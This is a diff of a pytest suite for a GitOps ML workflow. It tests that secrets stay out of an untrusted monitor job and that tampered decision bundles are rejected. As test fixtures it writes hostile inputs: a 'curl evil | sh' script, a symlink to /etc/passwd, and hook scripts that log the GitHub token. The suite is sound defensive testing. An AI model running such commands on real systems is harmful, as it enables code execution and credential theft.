@@ -27,30 +27,22 @@ from typing import Any
 import pandas as pd
 import pytest
 
+from tests.fixtures.git import git
 from tests.flows.conftest import REPO_ROOT, update_config
 from tests.forge.fake_github import FakeGitHub
-from tests.workflows.conftest import WORKFLOWS_DIR, load_workflow
+from tests.workflows.conftest import (
+    WORKFLOWS_DIR,
+    git_argv_logger,
+    load_workflow,
+    plant_hooks,
+    run_script,
+    run_step,
+    seeded_remote,
+    step_env,
+)
 
 TOKEN = "ghs_retrainTOKEN0123456789abcdefSECRET"
 REPOSITORY = "acme/churn"
-IDENTITY = {
-    "GIT_AUTHOR_NAME": "t",
-    "GIT_AUTHOR_EMAIL": "t@example.com",
-    "GIT_COMMITTER_NAME": "t",
-    "GIT_COMMITTER_EMAIL": "t@example.com",
-}
-HOOKS = (
-    "pre-push",
-    "pre-commit",
-    "post-commit",
-    "commit-msg",
-    "prepare-commit-msg",
-    "post-checkout",
-    "post-merge",
-    "reference-transaction",
-    "pre-auto-gc",
-    "post-rewrite",
-)
 
 
 def _workflow() -> dict[str, Any]:
@@ -58,37 +50,13 @@ def _workflow() -> dict[str, Any]:
 
 
 def _step(job: str, needle: str) -> dict[str, Any]:
-    (step,) = [s for s in _workflow()["jobs"][job]["steps"] if needle in (s.get("run") or "")]
-    return step
-
-
-def _resolve(value: Any, secrets: dict[str, str], context: dict[str, str]) -> str:
-    """The few expression forms our env blocks use; anything else fails the test (never skipped)."""
-    text = str(value)
-    m = re.fullmatch(r"\$\{\{\s*(.+?)\s*\}\}(.*)", text)
-    if not m:
-        assert "${{" not in text, f"unsupported expression {text!r}"
-        return text
-    out = None
-    for alternative in (a.strip() for a in m.group(1).split("||")):
-        if alternative.startswith("secrets."):
-            out = out or secrets[alternative.removeprefix("secrets.")]
-        elif alternative in context:
-            out = out or context[alternative]
-        else:
-            raise AssertionError(f"unsupported expression {text!r}")
-    return (out or "") + m.group(2)
+    return run_step("monitor.yml", job, needle)
 
 
 def _step_env(
     job: str, step: dict[str, Any], secrets: dict[str, str], context: dict[str, str]
 ) -> dict[str, str]:
-    """workflow env + job env + step env, as Actions layers them for a `run:` step."""
-    wf = _workflow()
-    env: dict[str, str] = {}
-    for block in (wf.get("env") or {}, wf["jobs"][job].get("env") or {}, step.get("env") or {}):
-        env.update({k: _resolve(v, secrets, context) for k, v in block.items()})
-    return env
+    return step_env(_workflow(), job, step, secrets, context)
 
 
 def _every_secret() -> dict[str, str]:
@@ -97,26 +65,11 @@ def _every_secret() -> dict[str, str]:
     return {name: f"sentinel-{name}-4f1d" for name in names}
 
 
-def _run_script(script: str, cwd: Path, env: dict[str, str], tmp: Path) -> subprocess.CompletedProcess[str]:
-    path = tmp / f"step-{abs(hash(script))}.sh"
-    path.write_text(script)
-    # the shell GitHub Actions uses for `run:` on Linux
-    return subprocess.run(
-        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(path)],
-        cwd=cwd,
-        env=env,
-        capture_output=True,
-        text=True,
-        timeout=600,
-        check=False,
-    )
-
-
 def test_the_monitor_jobs_are_split_by_trust() -> None:
     wf = _workflow()
     jobs = wf["jobs"]
-    assert set(jobs) == {"monitor", "retrain-pr"}
-    monitor, trusted = jobs["monitor"], jobs["retrain-pr"]
+    assert set(jobs) == {"monitor", "decision-pr"}
+    monitor, trusted = jobs["monitor"], jobs["decision-pr"]
     assert "default_branch" in monitor["if"] and "schedule" in monitor["if"]
     assert monitor["permissions"] == {"contents": "read"}
     # the job running project code on client-written rows: the store URL and nothing else
@@ -128,7 +81,7 @@ def test_the_monitor_jobs_are_split_by_trust() -> None:
         "RETRAIN_TOKEN is not in the monitor's environment"
     )
     run = _step("monitor", "gitops-ml monitor")["run"]
-    assert "--bundle reports/retrain-bundle" in run and "--open-pr" not in run
+    assert "--bundle reports/decision-bundles" in run and "--open-pr" not in run
     # the trusted job: needs the monitor, fresh checkout of the same commit, locked install first
     assert trusted["needs"] == "monitor" and trusted["permissions"] == {"contents": "read"}
     steps = trusted["steps"]
@@ -138,7 +91,7 @@ def test_the_monitor_jobs_are_split_by_trust() -> None:
     download = next(
         i for i, s in enumerate(steps) if s.get("uses", "").startswith("actions/download-artifact@")
     )
-    opens = next(i for i, s in enumerate(steps) if "gitops-ml retrain-pr" in (s.get("run") or ""))
+    opens = next(i for i, s in enumerate(steps) if "gitops-ml decision-pr" in (s.get("run") or ""))
     assert install < download < opens == len(steps) - 1
     assert steps[download]["with"]["path"].startswith("${{ runner.temp }}"), "outside the checkout"
     assert '--expect-commit "$GITHUB_SHA"' in steps[opens]["run"]
@@ -163,11 +116,11 @@ def test_project_code_in_the_monitor_step_finds_no_token(tmp_path: Path) -> None
     )
     spy.chmod(0o755)
     env.update(HOME=str(tmp_path / "home"), PATH=os.environ["PATH"])
-    proc = _run_script(step["run"], work, env, tmp_path)
+    proc = run_script(step["run"], work, env, tmp_path)
     assert proc.returncode == 0, proc.stderr
     seen = dump.read_text()
     # the dump works: the one secret this step needs is there ...
-    assert secrets["PREDICTION_STORE_URL"] in seen and "--bundle reports/retrain-bundle" in seen
+    assert secrets["PREDICTION_STORE_URL"] in seen and "--bundle reports/decision-bundles" in seen
     # ... and no secret token is: only the job's own read-only GITHUB_TOKEN
     for name, value in secrets.items():
         if name != "PREDICTION_STORE_URL":
@@ -179,19 +132,19 @@ def test_project_code_in_the_monitor_step_finds_no_token(tmp_path: Path) -> None
 # -- the trusted job ---------------------------------------------------------------------------------
 
 
-def _git(cwd: Path, *args: str) -> str:
-    env = {**os.environ, **IDENTITY, "GIT_CONFIG_NOSYSTEM": "1"}
-    return subprocess.run(
-        ["git", "-C", str(cwd), *args], capture_output=True, text=True, check=True, env=env
-    ).stdout.strip()
-
-
 def _window(rows: int = 40) -> pd.DataFrame:
     """Logged inputs + late labels, customers not in the training data."""
     from gitops_ml.data.generator import generate_batches
 
     (frame,) = generate_batches("2026-05", 1, rows, seed=11, id_offset=5_000_000)
     return frame.drop(columns=["churned"]).assign(label=frame["churned"].to_numpy())
+
+
+def _detach(checkout: Path, sha: str) -> None:
+    """`ref: github.sha` leaves HEAD detached; `make install` of the same lock is the venv running
+    this suite (a fork under test has none of its own)."""
+    git(checkout, "checkout", "-q", "--detach", sha)
+    (checkout / ".venv").symlink_to(Path(sys.prefix))
 
 
 @pytest.fixture
@@ -201,23 +154,9 @@ def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
     seed = make_churn_project(tmp_path / "seed", months=1, rows=120)
     shutil.copy(REPO_ROOT / ".gitignore", seed / ".gitignore")
     update_config(seed, "forge", {"repository": REPOSITORY})
-    remote = tmp_path / "origin.git"
-    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(remote)], check=True)
-    _git(seed, "init", "-q", "-b", "main")
-    _git(seed, "add", "-A")
-    _git(seed, "commit", "-qm", "the default branch")
-    _git(seed, "push", "-q", str(remote), "main")
-    # actions/checkout: a fresh clone of the commit
-    checkout = tmp_path / "checkout"
-    subprocess.run(
-        ["git", "clone", "-q", str(remote), str(checkout)],
-        check=True,
-        env={**os.environ, "GIT_CONFIG_NOSYSTEM": "1"},
-    )
-    sha = _git(checkout, "rev-parse", "HEAD")
-    _git(checkout, "checkout", "-q", "--detach", sha)  # `ref: github.sha` leaves HEAD detached
-    # `make install` of the same lock: the venv running this suite (a fork under test has none of its own)
-    (checkout / ".venv").symlink_to(Path(sys.prefix))
+    remote, checkout = seeded_remote(tmp_path, seed, "the default branch")
+    sha = git(checkout, "rev-parse", "HEAD")
+    _detach(checkout, sha)
     home = tmp_path / "home"
     home.mkdir()
     monkeypatch.setenv("HOME", str(home))
@@ -227,12 +166,12 @@ def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
 
 def _write_bundle(project: dict[str, Any], monkeypatch: pytest.MonkeyPatch, **overrides: Any) -> Path:
     from gitops_ml.config import load_settings
-    from gitops_ml.jobs.retrain_bundle import write_retraining_bundle
+    from gitops_ml.jobs.decision_bundle import write_retraining_bundle
 
     monkeypatch.chdir(project["checkout"])
     settings = load_settings(Path("config"))
-    out = project["tmp"] / "runner" / "retrain-bundle"
-    write_retraining_bundle(
+    out = project["tmp"] / "runner" / "decision-bundles"
+    return write_retraining_bundle(
         settings,
         overrides.get("window", _window()),
         "## Model monitor: RETRAIN\n\nroc_auc fell below the baseline. cc @someone\n",
@@ -241,40 +180,17 @@ def _write_bundle(project: dict[str, Any], monkeypatch: pytest.MonkeyPatch, **ov
         model_version="20260501T000000-abc123",
         commit=overrides.get("commit", project["sha"]),
     )
-    return out
-
-
-def _plant(checkout: Path, marker: Path) -> None:
-    script = f'#!/bin/sh\necho "$0 saw $GITHUB_TOKEN" >> {marker}\nexit 0\n'
-    other = checkout / ".planted-hooks"
-    other.mkdir()
-    for folder in (checkout / ".git" / "hooks", other):
-        for name in HOOKS:
-            (folder / name).write_text(script)
-            (folder / name).chmod(0o755)
-    monitor = checkout / ".planted-fsmonitor"
-    monitor.write_text(script)
-    monitor.chmod(0o755)
-    _git(checkout, "config", "core.hooksPath", str(other))
-    _git(checkout, "config", "core.fsmonitor", str(monitor))
 
 
 def _run_trusted_step(
     project: dict[str, Any], bundle: Path, github: FakeGitHub
 ) -> subprocess.CompletedProcess[str]:
-    step = _step("retrain-pr", "gitops-ml retrain-pr")
+    step = _step("decision-pr", "gitops-ml decision-pr")
     secrets = {"RETRAIN_TOKEN": TOKEN, "PREDICTION_STORE_URL": f"sqlite:///{project['tmp'] / 'store.db'}"}
-    env = _step_env("retrain-pr", step, secrets, {"runner.temp": str(bundle.parent)})
-    assert env["BUNDLE"] == str(bundle)
+    env = _step_env("decision-pr", step, secrets, {"runner.temp": str(bundle.parent.parent)})
+    assert env["BUNDLE"] == str(bundle.parent), "the step reads the folder of bundles"
     # a `git` first on PATH that records every argv before running the real one
-    real_git = shutil.which("git")
-    bin_dir = project["tmp"] / "bin"
-    bin_dir.mkdir(exist_ok=True)
-    wrapper = bin_dir / "git"
-    wrapper.write_text(
-        f'#!/bin/sh\nprintf "%s\\n" "$*" >> {project["tmp"] / "argv.log"}\nexec {real_git} "$@"\n'
-    )
-    wrapper.chmod(0o755)
+    bin_dir = git_argv_logger(project["tmp"])
     env.update(
         GITHUB_SHA=project["sha"],
         GITHUB_API_URL=github.api_url,
@@ -282,8 +198,9 @@ def _run_trusted_step(
         PATH=f"{bin_dir}:{os.environ['PATH']}",
         GIT_CONFIG_NOSYSTEM="1",
         PREFECT_HOME=str(project["tmp"] / "prefect"),
+        **project.get("env", {}),  # what the machine running the job configures (a model store)
     )
-    return _run_script(step["run"], project["checkout"], env, project["tmp"])
+    return run_script(step["run"], project["checkout"], env, project["tmp"])
 
 
 def test_the_trusted_step_opens_the_pr_and_no_planted_hook_sees_the_token(
@@ -291,7 +208,7 @@ def test_the_trusted_step_opens_the_pr_and_no_planted_hook_sees_the_token(
 ) -> None:
     bundle = _write_bundle(project, monkeypatch)
     marker = project["tmp"] / "hook-ran.txt"
-    _plant(project["checkout"], marker)
+    plant_hooks(project["checkout"], marker)
     with FakeGitHub(token=TOKEN, repos=[REPOSITORY], git_remotes={REPOSITORY: project["remote"]}) as github:
         proc = _run_trusted_step(project, bundle, github)
         pulls = github.pulls(REPOSITORY)
@@ -305,11 +222,11 @@ def test_the_trusted_step_opens_the_pr_and_no_planted_hook_sees_the_token(
     assert len(pulls) == 1 and pulls[0]["head"]["ref"].startswith("retrain/")
     assert pulls[0]["body"].startswith("## Model monitor: RETRAIN") and "cc @someone" not in pulls[0]["body"]
     branch = pulls[0]["head"]["ref"]
-    files = _git(project["remote"], "ls-tree", "-r", "--name-only", branch).split()
+    files = git(project["remote"], "ls-tree", "-r", "--name-only", branch).split()
     (batch,) = [f for f in files if f.startswith("data/batches/churn-retrain-")]
-    pushed = _git(project["remote"], "show", f"{branch}:{batch}").splitlines()
+    pushed = git(project["remote"], "show", f"{branch}:{batch}").splitlines()
     assert len(pushed) == 1 + 40 and pushed[0].endswith(",churned")
-    changed = _git(project["remote"], "diff", "--name-only", "main", branch).split()
+    changed = git(project["remote"], "diff", "--name-only", "main", branch).split()
     assert sorted(changed) == sorted([batch, "data/manifest.yaml"])
 
 
@@ -319,7 +236,7 @@ def _refused(project: dict[str, Any], bundle: Path, needle: str) -> None:
         assert github.pulls(REPOSITORY) == []
     assert proc.returncode == 2, proc.stdout + proc.stderr
     assert needle in proc.stderr, proc.stderr
-    assert _git(project["remote"], "for-each-ref", "--format=%(refname)").split() == ["refs/heads/main"]
+    assert git(project["remote"], "for-each-ref", "--format=%(refname)").split() == ["refs/heads/main"]
 
 
 def test_a_bundle_changed_after_it_was_written_is_refused(
@@ -350,7 +267,7 @@ def test_bundle_refusals_name_the_file_and_the_rule(
     import hashlib
 
     from gitops_ml.config import load_settings
-    from gitops_ml.jobs.retrain_bundle import BundleError, read_retraining_bundle
+    from gitops_ml.jobs.decision_bundle import BundleError, read_retraining_bundle
 
     bundle = _write_bundle(project, monkeypatch)
     settings = load_settings(Path("config"))
@@ -360,10 +277,9 @@ def test_bundle_refusals_name_the_file_and_the_rule(
             read_retraining_bundle(bundle, settings, expect_commit=project["sha"])
         assert info.value.exit_code == 2
 
-    _, frame, _ = read_retraining_bundle(bundle, settings, expect_commit=project["sha"])
-    assert len(frame) == 40
+    assert len(read_retraining_bundle(bundle, settings, expect_commit=project["sha"]).window) == 40
     (bundle / "extra.py").write_text("print('x')\n")
-    refused(r"unexpected files in the retraining bundle: \['extra.py'\]")
+    refused(r"unexpected files in the bundle: \['extra.py'\]")
     (bundle / "extra.py").unlink()
     original = (bundle / "report.md").read_bytes()
     (bundle / "report.md").unlink()
@@ -382,3 +298,167 @@ def test_bundle_refusals_name_the_file_and_the_rule(
     (bundle / "window.csv").write_bytes(csv)
     _rewrite(bundle, window_sha256=hashlib.sha256(csv).hexdigest())
     refused(r"columns must be the contract's inputs and 'label'; unknown: \['__import__'\]")
+
+
+# -- a challenger decision through the same split ------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def challenger_monitor(tmp_path_factory: pytest.TempPathFactory, prefect_harness) -> dict[str, Any]:
+    """Production and a shadow challenger on the default branch; three windows in which the
+    challenger is truly better; then the monitor, as the token-free step runs it (`--bundle`), with
+    a token the fake GitHub would accept in its environment: it must not use it."""
+
+    from flows.monitor import monitor_flow
+    from tests.fixtures.git import GIT_IDENTITY
+    from tests.flows.conftest import log_better_windows, make_challenger_repo
+
+    tmp = tmp_path_factory.mktemp("challenger-split")
+    home = tmp / "home"
+    home.mkdir()
+    env = {"GITOPS_ML_MODEL_STORE_URL": str(tmp / "models")}  # the machine's store, outside checkouts
+    with pytest.MonkeyPatch.context() as mp:
+        for key, value in {**GIT_IDENTITY, **env, "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1"}.items():
+            mp.setenv(key, value)
+        for var in ("GITHUB_TOKEN", "GH_TOKEN"):
+            mp.delenv(var, raising=False)
+        seed = make_challenger_repo(tmp / "seed")
+        shutil.copy(REPO_ROOT / ".gitignore", seed / ".gitignore")
+        update_config(seed, "forge", {"repository": REPOSITORY})
+        remote, checkout = seeded_remote(tmp, seed, "the repository on GitHub")
+        sha = git(seed, "rev-parse", "HEAD")
+        _detach(checkout, sha)
+        mp.chdir(checkout)
+        store_url = f"sqlite:///{tmp / 'store.db'}"
+        now, _ = log_better_windows(checkout, store_url, rows=400)
+        bundles = tmp / "runner" / "decision-bundles"
+        with FakeGitHub(token=TOKEN, repos=[REPOSITORY], git_remotes={REPOSITORY: remote}) as github:
+            mp.setenv("GITHUB_TOKEN", TOKEN)
+            mp.setenv("GITHUB_API_URL", github.api_url)
+            outcome = monitor_flow(
+                store_url=store_url, window="1D", now=now.isoformat(), bundle_dir=str(bundles)
+            )
+            pulls = github.pulls(REPOSITORY)
+    return {
+        "tmp": tmp,
+        "remote": remote,
+        "sha": sha,
+        "home": home,
+        "env": env,
+        "outcome": outcome,
+        "pulls": pulls,
+        "bundle": bundles / "challenger",
+    }
+
+
+def test_the_token_free_monitor_writes_a_challenger_bundle_and_opens_no_pr(
+    challenger_monitor: dict[str, Any],
+) -> None:
+    outcome = challenger_monitor["outcome"]
+    assert outcome.challenger is not None and outcome.challenger.action == "promote"
+    assert outcome.challenger_pr is None and challenger_monitor["pulls"] == []
+    refs = git(challenger_monitor["remote"], "for-each-ref", "--format=%(refname)").split()
+    assert refs == ["refs/heads/main"], "nothing pushed"
+    bundle = challenger_monitor["bundle"]
+    assert outcome.challenger_bundle == str(bundle)
+    assert sorted(p.name for p in bundle.iterdir()) == ["bundle.json", "decision.json", "report.md"]
+    assert sorted(p.name for p in bundle.parent.iterdir()) == ["challenger"], "no retraining was decided"
+    meta = json.loads((bundle / "bundle.json").read_text())
+    assert meta["kind"] == "challenger" and meta["action"] == "promote"
+    assert meta["commit"] == challenger_monitor["sha"]
+    assert meta["challenger_version"] == outcome.challenger.challenger_version
+    decision = json.loads((bundle / "decision.json").read_text())
+    assert [w["outcome"] for w in decision["windows"]] == ["better"] * 3
+    assert "## Challenger" in (bundle / "report.md").read_text()
+
+
+def _trusted(challenger_monitor: dict[str, Any], tmp_path: Path) -> tuple[dict[str, Any], Path]:
+    """A fresh remote (as GitHub holds it), a fresh checkout of the commit, a copy of the bundles."""
+    remote = tmp_path / "origin.git"
+    shutil.copytree(challenger_monitor["remote"], remote, symlinks=True)
+    checkout = tmp_path / "checkout"
+    git(tmp_path, "clone", "-q", str(remote), str(checkout))
+    _detach(checkout, challenger_monitor["sha"])
+    bundles = tmp_path / "runner" / "decision-bundles"
+    shutil.copytree(challenger_monitor["bundle"].parent, bundles)
+    project = {**challenger_monitor, "tmp": tmp_path, "remote": remote, "checkout": checkout}
+    return project, bundles / "challenger"
+
+
+def test_the_trusted_step_opens_one_challenger_pr_and_a_second_run_updates_it(
+    challenger_monitor: dict[str, Any], tmp_path: Path
+) -> None:
+    project, bundle = _trusted(challenger_monitor, tmp_path)
+    version = challenger_monitor["outcome"].challenger.challenger_version
+    with FakeGitHub(token=TOKEN, repos=[REPOSITORY], git_remotes={REPOSITORY: project["remote"]}) as github:
+        first = _run_trusted_step(project, bundle, github)
+        assert first.returncode == 0, first.stdout + first.stderr
+        second = _run_trusted_step(project, bundle, github)
+        assert second.returncode == 0, second.stdout + second.stderr
+        pulls = github.pulls(REPOSITORY)
+        comments = github.comments(pulls[0]["number"], REPOSITORY) if pulls else []
+    assert "challenger PR: opened" in first.stdout and "challenger PR: updated" in second.stdout
+    assert "retraining PR" not in first.stdout + second.stdout
+    assert len(pulls) == 1, "updated, never duplicated"
+    pr = pulls[0]
+    assert pr["head"]["ref"].startswith("challenger/promote-")
+    assert pr["title"].startswith(f"Promote challenger {version}")
+    assert "## Challenger" in pr["body"] and len(comments) == 1
+    branch = pr["head"]["ref"]
+    changed = sorted(git(project["remote"], "diff", "--name-only", "main", branch).split())
+    assert changed == ["deploy/challenger.yaml", "deploy/history.yaml", "deploy/production.yaml"]
+    pointer = git(project["remote"], "show", f"{branch}:deploy/production.yaml")
+    assert f"version: {version}" in pointer
+    assert TOKEN not in first.stdout + first.stderr + second.stdout + second.stderr
+
+
+def _tamper_json(name: str, **changes: Any):
+    def tamper(bundle: Path) -> None:
+        data = json.loads((bundle / name).read_text())
+        data.update(changes)
+        (bundle / name).write_text(json.dumps(data))
+
+    return tamper
+
+
+def _tamper_decision_text(bundle: Path) -> None:
+    path = bundle / "decision.json"
+    path.write_text(path.read_text().replace("better than production", "far better than production"))
+
+
+def _extra_file(bundle: Path) -> None:
+    (bundle / "run.sh").write_text("curl evil | sh\n")
+
+
+def _escaping_report(bundle: Path) -> None:
+    (bundle / "report.md").unlink()
+    (bundle / "report.md").symlink_to("../../../../../../etc/passwd")
+
+
+def _escaping_folder(bundle: Path) -> None:
+    target = bundle.parent.parent / "elsewhere"
+    bundle.rename(target)
+    bundle.symlink_to(target)
+
+
+@pytest.mark.parametrize(
+    ("tamper", "needle"),
+    [
+        (_tamper_decision_text, "decision.json: sha256 differs from bundle.json's"),
+        (_tamper_json("bundle.json", kind="deploy"), "does not match any of the expected tags"),
+        (_tamper_json("bundle.json", action="rollback"), "action: Input should be 'promote' or 'retire'"),
+        (_tamper_json("bundle.json", pointer_sha256="0" * 64), "pointer_sha256 is not the sha256 of"),
+        (_tamper_json("bundle.json", challenger_version="v-other"), "challenger_version 'v-other' is not"),
+        (_tamper_json("bundle.json", commit="1" * 40), "is not the commit of this run"),
+        (_extra_file, "unexpected files in the bundle: ['run.sh']"),
+        (_escaping_report, "report.md: not a regular file"),
+        (_escaping_folder, "challenger: not a folder"),
+    ],
+    ids=["sha256", "kind", "action", "pointer", "version", "commit", "extra-file", "symlink", "folder-link"],
+)
+def test_a_tampered_challenger_bundle_exits_2_and_opens_nothing(
+    challenger_monitor: dict[str, Any], tmp_path: Path, tamper: Any, needle: str
+) -> None:
+    project, bundle = _trusted(challenger_monitor, tmp_path)
+    tamper(bundle)
+    _refused(project, bundle, needle)
